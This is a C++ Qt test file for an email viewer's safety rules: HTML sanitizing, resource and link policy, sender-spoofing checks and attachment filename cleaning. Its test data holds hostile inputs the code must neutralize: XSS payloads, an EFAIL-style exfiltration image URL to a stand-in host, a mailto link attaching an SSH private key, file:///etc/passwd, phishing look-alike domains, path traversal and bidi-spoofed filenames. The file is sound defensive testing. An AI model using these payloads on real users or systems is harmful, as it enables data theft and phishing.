// The viewer's safety rules as pure functions, rule by rule: HTML made safe
// part by part (scripts, remote styles, frames, forms, meta refresh; the
// EFAIL shape), which resources may load, the link policy, the sender
// spoofing check and attachment file names.

#include "models/attachmentfilename.h"
#include "models/htmlsanitizer.h"
#include "models/linkpolicy.h"
#include "models/resourcepolicy.h"
#include "models/sendercheck.h"

#include <QTest>

using namespace Quail::Models;

class TestViewerSafety : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void sanitizerDrops_data();
    void sanitizerDrops();
    void sanitizerKeeps_data();
    void sanitizerKeeps();
    void sanitizedPartsCannotSwallowEachOther();
    void plainTextKeepsItsLines();
    void efailShape();
    void resources_data();
    void resources();
    void dataImagesAreCapped();
    void links_data();
    void links();
    void mailtoDropsAttachments();
    void senderSpoofing_data();
    void senderSpoofing();
    void punycodeAddress();
    void attachmentNames_data();
    void attachmentNames();
};

void TestViewerSafety::sanitizerDrops_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("forbidden"); // must not appear in the output, any case
    QTest::newRow("script") << QStringLiteral("<p>a<script>alert('x')</script>b</p>") << QStringLiteral("alert");
    QTest::newRow("script unterminated") << QStringLiteral("<p>a<script>alert('x')") << QStringLiteral("alert");
    QTest::newRow("script in caps") << QStringLiteral("<SCRIPT>evil()</SCRIPT>") << QStringLiteral("evil");
    QTest::newRow("style element") << QStringLiteral("<style>@import url(http://x/a.css);</style>ok")
                                   << QStringLiteral("import");
    QTest::newRow("link stylesheet") << QStringLiteral("<link rel=stylesheet href=\"http://x/a.css\">ok")
                                     << QStringLiteral("a.css");
    QTest::newRow("style url()") << QStringLiteral("<p style=\"background:url(http://x/bg.png)\">t</p>")
                                 << QStringLiteral("bg.png");
    QTest::newRow("style escaped url") << QStringLiteral("<p style=\"background:u\\72l(http://x/e.png)\">t</p>")
                                       << QStringLiteral("e.png");
    QTest::newRow("iframe") << QStringLiteral("<iframe src=\"http://x/f\">inner</iframe>ok") << QStringLiteral("http");
    QTest::newRow("object") << QStringLiteral("<object data=\"http://x/o\"><param name=a value=b>o</object>")
                            << QStringLiteral("http");
    QTest::newRow("embed") << QStringLiteral("<embed src=\"http://x/e\">") << QStringLiteral("http");
    QTest::newRow("form") << QStringLiteral("<form action=\"http://x/f\"><input value=\"secret\">t</form>")
                          << QStringLiteral("http");
    QTest::newRow("form input value") << QStringLiteral("<form><input value=\"secret\"></form>")
                                      << QStringLiteral("secret");
    QTest::newRow("meta refresh") << QStringLiteral("<meta http-equiv=refresh content=\"0;url=http://x/\">ok")
                                  << QStringLiteral("refresh");
    QTest::newRow("base href") << QStringLiteral("<base href=\"http://x/\"><img src=a.png>")
                               << QStringLiteral("http://x");
    QTest::newRow("event handler") << QStringLiteral("<img src=cid:a onerror=\"alert(1)\">")
                                   << QStringLiteral("onerror");
    QTest::newRow("background attribute")
        << QStringLiteral("<table background=\"http://x/t.png\"><tr><td>c</td></tr></table>")
        << QStringLiteral("t.png");
    QTest::newRow("srcset") << QStringLiteral("<img src=cid:a srcset=\"http://x/2x.png 2x\">")
                            << QStringLiteral("2x.png");
    QTest::newRow("svg") << QStringLiteral("<svg><image href=\"http://x/s.png\"/></svg>ok") << QStringLiteral("s.png");
    QTest::newRow("title") << QStringLiteral("<head><title>Hidden title</title></head><body>b</body>")
                           << QStringLiteral("Hidden");
    QTest::newRow("comment") << QStringLiteral("a<!-- <img src=http://x/c.png> -->b") << QStringLiteral("c.png");
}

void TestViewerSafety::sanitizerDrops()
{
    QFETCH(QString, html);
    QFETCH(QString, forbidden);
    const QString out = sanitizeHtml(html);
    QVERIFY2(!out.contains(forbidden, Qt::CaseInsensitive), qPrintable(out));
}

void TestViewerSafety::sanitizerKeeps_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    QTest::newRow("formatting") << QStringLiteral("<p>Hello <b>bold</b> <i>it</i></p>")
                                << QStringLiteral("<p>Hello <b>bold</b> <i>it</i></p>");
    QTest::newRow("attributes re-quoted") << QStringLiteral("<font color=red face='Arial'>x</font>")
                                          << QStringLiteral("<font color=\"red\" face=\"Arial\">x</font>");
    QTest::newRow("image source kept") << QStringLiteral("<img src=\"cid:logo@x\" alt=\"a&quot;b\">")
                                       << QStringLiteral("<img src=\"cid:logo@x\" alt=\"a&quot;b\">");
    QTest::newRow("link kept") << QStringLiteral("<a href=\"https://example.org/?a=1&amp;b=2\">x</a>")
                               << QStringLiteral("<a href=\"https://example.org/?a=1&amp;b=2\">x</a>");
    QTest::newRow("harmless style") << QStringLiteral("<span style=\"color: red; font-weight: bold\">x</span>")
                                    << QStringLiteral("<span style=\"color: red; font-weight: bold\">x</span>");
    QTest::newRow("entities kept") << QStringLiteral("a &amp; b &lt; c &nbsp; &#8364;")
                                   << QStringLiteral("a &amp; b &lt; c &nbsp; &#8364;");
    QTest::newRow("bare ampersand escaped")
        << QStringLiteral("fish & chips <3") << QStringLiteral("fish &amp; chips &lt;3");
    QTest::newRow("unknown tags dropped, text kept")
        << QStringLiteral("<html><body><center>c</center><blink>b</blink></body></html>")
        << QStringLiteral("<center>c</center>b");
    QTest::newRow("stray end tag ignored") << QStringLiteral("a</b></div>b") << QStringLiteral("ab");
}

void TestViewerSafety::sanitizerKeeps()
{
    QFETCH(QString, html);
    QFETCH(QString, expected);
    QCOMPARE(sanitizeHtml(html), expected);
}

void TestViewerSafety::sanitizedPartsCannotSwallowEachOther()
{
    // Whatever a part leaves open is closed at its end.
    QCOMPARE(sanitizeHtml(u"<div><table><tr><td><b><a href=\"http://x/\">open"),
             QStringLiteral("<div><table><tr><td><b><a href=\"http://x/\">open</a></b></td></tr></table></div>"));
    QCOMPARE(sanitizeHtml(u"<p>text<!-- unterminated comment"), QStringLiteral("<p>text</p>"));
    QCOMPARE(sanitizeHtml(u"<p>text<textarea>swallow"), QStringLiteral("<p>text</p>"));
}

void TestViewerSafety::plainTextKeepsItsLines()
{
    // One line break per line, whatever the line ending; markup stays text.
    QCOMPARE(Quail::Models::plainTextToHtml(u"a\r\nb\rc\n<d>\r\n\r\ne"),
             QStringLiteral("<div style=\"white-space: pre-wrap\">a\nb\nc\n&lt;d&gt;\n\ne</div>"));
}

void TestViewerSafety::efailShape()
{
    // EFAIL direct exfiltration: an image whose source never ends would take
    // the next part's text into its URL. Per part, the unfinished tag is
    // dropped, so no URL exists at all.
    const QString part1 = QStringLiteral("<html><body><img src=\"http://efail.example.net/collect?");
    const QString out = sanitizeHtml(part1);
    QVERIFY2(!out.contains(QStringLiteral("img")), qPrintable(out));
    QVERIFY2(!out.contains(QStringLiteral("efail")), qPrintable(out));
    // And the closing part's stray quote is only text.
    QCOMPARE(sanitizeHtml(u"\">\n</body></html>"), QStringLiteral("\"&gt;\n"));
}

void TestViewerSafety::resources_data()
{
    QTest::addColumn<QUrl>("url");
    QTest::addColumn<ResourceSource>("source");
    QTest::newRow("cid") << QUrl(QStringLiteral("cid:logo@example.org")) << ResourceSource::ContentId;
    QTest::newRow("data") << QUrl(QStringLiteral("data:image/png;base64,AAAA")) << ResourceSource::Data;
    QTest::newRow("http") << QUrl(QStringLiteral("http://example.org/a.png")) << ResourceSource::Remote;
    QTest::newRow("https") << QUrl(QStringLiteral("https://example.org/a.png")) << ResourceSource::Remote;
    QTest::newRow("file") << QUrl(QStringLiteral("file:///etc/passwd")) << ResourceSource::Refused;
    QTest::newRow("absolute path") << QUrl(QStringLiteral("/etc/hostname")) << ResourceSource::Refused;
    QTest::newRow("relative") << QUrl(QStringLiteral("logo.png")) << ResourceSource::Refused;
    QTest::newRow("unc") << QUrl(QStringLiteral("\\\\attacker.example\\share\\x.png")) << ResourceSource::Refused;
    QTest::newRow("protocol-relative") << QUrl(QStringLiteral("//attacker.example/x.png")) << ResourceSource::Refused;
    QTest::newRow("qrc") << QUrl(QStringLiteral("qrc:/icons/quail.svg")) << ResourceSource::Refused;
    QTest::newRow("ftp") << QUrl(QStringLiteral("ftp://example.org/a.png")) << ResourceSource::Refused;
    QTest::newRow("windows drive") << QUrl(QStringLiteral("C:/Windows/win.ini")) << ResourceSource::Refused;
}

void TestViewerSafety::resources()
{
    QFETCH(QUrl, url);
    QFETCH(ResourceSource, source);
    QCOMPARE(classifyResource(url), source);
}

void TestViewerSafety::dataImagesAreCapped()
{
    const QByteArray image(1000, 'x');
    const QUrl url(QStringLiteral("data:image/png;base64,") + QString::fromLatin1(image.toBase64()));
    QCOMPARE(decodeDataImage(url, 1000), std::optional<QByteArray>(image));
    QCOMPARE(decodeDataImage(url, 999), std::nullopt);
    QCOMPARE(decodeDataImage(QUrl(QStringLiteral("data:text/html;base64,PGI+")), 1000), std::nullopt);
    QCOMPARE(decodeDataImage(QUrl(QStringLiteral("data:image/svg+xml,<svg/>")), 1000), std::nullopt);
    QCOMPARE(contentIdOf(QUrl(QStringLiteral("cid:part1.abc%40example.com"))), QByteArray("part1.abc@example.com"));
}

void TestViewerSafety::links_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("opens");
    QTest::addColumn<bool>("mismatch");
    QTest::newRow("https") << QStringLiteral("https://example.org/a") << QStringLiteral("Read more") << true << false;
    QTest::newRow("http") << QStringLiteral("http://example.org/") << QString() << true << false;
    QTest::newRow("mailto") << QStringLiteral("mailto:ana@example.org") << QStringLiteral("ana@example.org") << true
                            << false;
    QTest::newRow("javascript") << QStringLiteral("javascript:alert(1)") << QStringLiteral("x") << false << false;
    QTest::newRow("javascript with spaces")
        << QStringLiteral("  JaVaScRiPt:alert(1)") << QStringLiteral("x") << false << false;
    QTest::newRow("file") << QStringLiteral("file:///etc/passwd") << QStringLiteral("x") << false << false;
    QTest::newRow("data") << QStringLiteral("data:text/html,<script>alert(1)</script>") << QStringLiteral("x") << false
                          << false;
    QTest::newRow("relative") << QStringLiteral("../index.html") << QStringLiteral("x") << false << false;
    QTest::newRow("anchor") << QStringLiteral("#top") << QStringLiteral("x") << false << false;
    QTest::newRow("ftp") << QStringLiteral("ftp://example.org/") << QStringLiteral("x") << false << false;
    QTest::newRow("smb") << QStringLiteral("smb://attacker.example/share") << QStringLiteral("x") << false << false;
    QTest::newRow("text is another url") << QStringLiteral("http://phish.example.net/login")
                                         << QStringLiteral("https://bank.example.com/login") << true << true;
    QTest::newRow("text is another host")
        << QStringLiteral("https://phish.example.net/") << QStringLiteral("www.bank.example.com") << true << true;
    QTest::newRow("text is the same host")
        << QStringLiteral("https://www.bank.example.com/x") << QStringLiteral("www.bank.example.com") << true << false;
    QTest::newRow("text host case") << QStringLiteral("https://Example.ORG/") << QStringLiteral("example.org") << true
                                    << false;
    QTest::newRow("text address elsewhere") << QStringLiteral("mailto:evil@phish.example.net")
                                            << QStringLiteral("support@bank.example.com") << true << true;
    QTest::newRow("idn look-alike") << QStringLiteral("https://xn--bnk-6cd.example.com/")
                                    << QStringLiteral("bank.example.com") << true << true;
}

void TestViewerSafety::links()
{
    QFETCH(QString, href);
    QFETCH(QString, text);
    QFETCH(bool, opens);
    QFETCH(bool, mismatch);
    const LinkDecision decision = LinkPolicy::decide(href, text);
    QCOMPARE(decision.action == LinkDecision::Action::OpenExternally, opens);
    QCOMPARE(decision.textMismatch, mismatch);
    if (opens)
        QVERIFY(!decision.shownTarget.isEmpty());
    else
        QVERIFY(!decision.reason.isEmpty());
}

void TestViewerSafety::mailtoDropsAttachments()
{
    const LinkDecision decision =
        LinkPolicy::decide(QStringLiteral("mailto:a@example.org?subject=Hi&attach=/home/me/.ssh/id_rsa&ATTACHMENT=x"));
    QCOMPARE(decision.action, LinkDecision::Action::OpenExternally);
    QCOMPARE(decision.target, QUrl(QStringLiteral("mailto:a@example.org?subject=Hi")));
    // The real target is shown encoded, with an IDN host in punycode.
    QCOMPARE(LinkPolicy::decide(QStringLiteral("https://bаnk.example.com/")).shownTarget,
             QStringLiteral("https://xn--bnk-6cd.example.com/"));
}

void TestViewerSafety::senderSpoofing_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("address");
    QTest::addColumn<bool>("suspicious");
    QTest::newRow("plain name") << QStringLiteral("Ana Souza") << QStringLiteral("ana@example.com") << false;
    QTest::newRow("own address as name") << QStringLiteral("ana@example.com") << QStringLiteral("ana@example.com")
                                         << false;
    QTest::newRow("own address, other case")
        << QStringLiteral("Ana@Example.com") << QStringLiteral("ana@example.com") << false;
    QTest::newRow("foreign address") << QStringLiteral("ceo@bank.example.com")
                                     << QStringLiteral("attacker@evil.example.net") << true;
    QTest::newRow("foreign address in text") << QStringLiteral("Bank Support (support@bank.example.com)")
                                             << QStringLiteral("attacker@evil.example.net") << true;
    QTest::newRow("full-width at") << QStringLiteral("ceo＠bank.example.com")
                                   << QStringLiteral("attacker@evil.example.net") << true;
    QTest::newRow("bracketed address") << QStringLiteral("<ceo@bank.example.com>")
                                       << QStringLiteral("attacker@evil.example.net") << true;
    QTest::newRow("at without address") << QStringLiteral("Meet @ noon") << QStringLiteral("a@example.com") << false;
}

void TestViewerSafety::senderSpoofing()
{
    QFETCH(QString, name);
    QFETCH(QString, address);
    QFETCH(bool, suspicious);
    const SenderCheck check = checkSender(name, address);
    QCOMPARE(check.suspicious, suspicious);
    if (suspicious)
        QVERIFY2(check.claimedAddress.endsWith(QStringLiteral("@bank.example.com")), qPrintable(check.claimedAddress));
}

void TestViewerSafety::punycodeAddress()
{
    QCOMPARE(displayAddress(QStringLiteral("ceo@bаnk.example.com")), QStringLiteral("ceo@xn--bnk-6cd.example.com"));
    QCOMPARE(displayAddress(QStringLiteral("ceo@bank.example.com")), QStringLiteral("ceo@bank.example.com"));
}

void TestViewerSafety::attachmentNames_data()
{
    QTest::addColumn<QString>("suggested");
    QTest::addColumn<QString>("expected");
    QTest::newRow("plain") << QStringLiteral("Rechnung März.pdf") << QStringLiteral("Rechnung März.pdf");
    QTest::newRow("dot dot slash") << QStringLiteral("../../.bashrc") << QStringLiteral("bashrc");
    QTest::newRow("absolute") << QStringLiteral("/etc/passwd") << QStringLiteral("passwd");
    QTest::newRow("windows path") << QStringLiteral("C:\\x\\y.txt") << QStringLiteral("y.txt");
    QTest::newRow("windows drive only") << QStringLiteral("C:evil.txt") << QStringLiteral("C_evil.txt");
    QTest::newRow("unc") << QStringLiteral("\\\\host\\share\\z.doc") << QStringLiteral("z.doc");
    QTest::newRow("device CON") << QStringLiteral("CON") << QStringLiteral("_CON");
    QTest::newRow("device nul.txt") << QStringLiteral("nul.txt") << QStringLiteral("_nul.txt");
    QTest::newRow("device COM1") << QStringLiteral("com1.tar.gz") << QStringLiteral("_com1.tar.gz");
    QTest::newRow("not a device") << QStringLiteral("CONTRACT.pdf") << QStringLiteral("CONTRACT.pdf");
    QTest::newRow("bidi override") << QStringLiteral("invoice\u202Efdp.exe") << QStringLiteral("invoicefdp.exe");
    QTest::newRow("bidi isolate") << QStringLiteral("a\u2066b\u2069.txt") << QStringLiteral("ab.txt");
    QTest::newRow("zero width") << QStringLiteral("pay\u200Bpal.pdf") << QStringLiteral("paypal.pdf");
    QTest::newRow("control characters") << QStringLiteral("a\nb\tc\u0007.txt") << QStringLiteral("abc.txt");
    QTest::newRow("reserved characters") << QStringLiteral("a<b>c:d\"e|f?g*h.txt")
                                         << QStringLiteral("a_b_c_d_e_f_g_h.txt");
    QTest::newRow("leading dots") << QStringLiteral("...hidden") << QStringLiteral("hidden");
    QTest::newRow("trailing dots and spaces") << QStringLiteral("report.pdf. . ") << QStringLiteral("report.pdf");
    QTest::newRow("empty") << QString() << QStringLiteral("attachment");
    QTest::newRow("only dots") << QStringLiteral("..") << QStringLiteral("attachment");
    QTest::newRow("only separators") << QStringLiteral("/\\/") << QStringLiteral("attachment");
    QTest::newRow("300 characters") << QString(296, u'a') + QStringLiteral(".pdf")
                                    << QString(196, u'a') + QStringLiteral(".pdf");
    QTest::newRow("long multibyte") << QString(150, u'ä') + QStringLiteral(".txt")
                                    << QString(98, u'ä') + QStringLiteral(".txt");
}

void TestViewerSafety::attachmentNames()
{
    QFETCH(QString, suggested);
    QFETCH(QString, expected);
    const QString name = safeAttachmentFileName(suggested);
    QCOMPARE(name, expected);
    QVERIFY(name.toUtf8().size() <= 200);
}

QTEST_GUILESS_MAIN(TestViewerSafety)
#include "tst_viewersafety.moc"
